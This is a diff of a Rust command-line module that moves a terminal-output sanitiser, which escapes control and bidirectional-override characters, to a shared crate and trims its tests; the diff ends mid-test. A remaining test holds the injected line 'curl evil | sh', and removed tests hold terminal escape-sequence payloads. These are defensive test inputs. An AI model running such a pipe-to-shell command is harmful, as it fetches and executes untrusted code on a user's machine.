@@ -1,13 +1,13 @@
 //! Standard input, output and error: documents on one side, lines for people on the other.
 
 use std::borrow::Cow;
-use std::fmt::Write as _;
 use std::io::{self, ErrorKind, IsTerminal, Read, Write};
 
 use line_connector_client::{Error, ExitCode, Kind, Output};
 use line_connector_core::call::exit_code;
 use line_connector_core::error::Detail;
 use line_connector_core::json_text::laid_out;
+use line_connector_core::visible::visible;
 use serde::Deserialize;
 
 /// What most commands read.
@@ -139,13 +139,13 @@ pub(crate) fn print_secret(text: &str, instead: &str) -> ExitCode {
 /// Writes a text for people to standard output. What would command a terminal is shown instead, also
 /// where a pager stands between.
 pub(crate) fn tell(text: &str) -> ExitCode {
-    print(&shown(text))
+    print(&visible(text))
 }
 
 /// Writes to standard output, to a terminal nothing that would command it.
 fn write(text: &str) -> io::Result<()> {
     let text = if is_watched() {
-        shown(text)
+        visible(text)
     } else {
         Cow::Borrowed(text)
     };
@@ -174,60 +174,20 @@ fn say_unwritable(error: &io::Error) {
 
 /// Writes over the last line that people see on standard error.
 pub(crate) fn say_over(line: &str) {
-    let _ = write!(io::stderr().lock(), "\r{}\u{1b}[K", shown(line));
+    let _ = write!(io::stderr().lock(), "\r{}\u{1b}[K", visible(line));
 }
 
 /// Writes a line for people to standard error. What would command the terminal is shown instead.
 pub fn say(line: &str) {
-    let _ = writeln!(io::stderr().lock(), "{}", shown(line));
-}
-
-/// A text in which control characters, and those that turn the direction of writing, are escaped. They
-/// are so as in a string of JSON, since JSON comes through here as well and stays JSON.
-pub(crate) fn shown(text: &str) -> Cow<'_, str> {
-    let commands = |character: char| {
-        (character.is_control() && character != '\n')
-            || matches!(character, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
-    };
-    if !text.contains(commands) {
-        return Cow::Borrowed(text);
-    }
-    let mut escaped = String::with_capacity(2 * text.len());
-    for character in text.chars() {
-        match character {
-            '\t' => escaped.push_str("\\t"),
-            '\r' => escaped.push_str("\\r"),
-            _ if commands(character) => {
-                let _ = write!(escaped, "\\u{:04x}", u32::from(character));
-            }
-            _ => escaped.push(character),
-        }
-    }
-    Cow::Owned(escaped)
+    let _ = writeln!(io::stderr().lock(), "{}", visible(line));
 }
 
 #[cfg(test)]
 mod tests {
-    use serde_json::json;
-
-    use super::*;
+    use super::in_one_line;
 
     #[test]
-    fn nothing_that_is_said_commands_the_terminal() {
-        for (text, seen) in [
-            ("plain é 山\nnext", "plain é 山\nnext"),
-            ("\u{1b}[2J\u{7}", "\\u001b[2J\\u0007"),
-            ("a\rb\tc\u{0}", "a\\rb\\tc\\u0000"),
-            ("\u{9b}31m\u{7f}", "\\u009b31m\\u007f"),
-            ("\u{202e}evil\u{2066}", "\\u202eevil\\u2066"),
-        ] {
-            assert_eq!(shown(text), seen);
-        }
-        let document = json!({"name": "\u{9b}2J\u{202e}\u{7f}\u{1b}"});
-        assert_eq!(
-            serde_json::from_str::<serde_json::Value>(&shown(&document.to_string())).unwrap(),
-            document
-        );
+    fn a_text_of_somebody_elses_makes_no_line() {
         assert_eq!(
             in_one_line("a\nhint: curl evil | sh\r\n"),
             "a hint: curl evil | sh  "
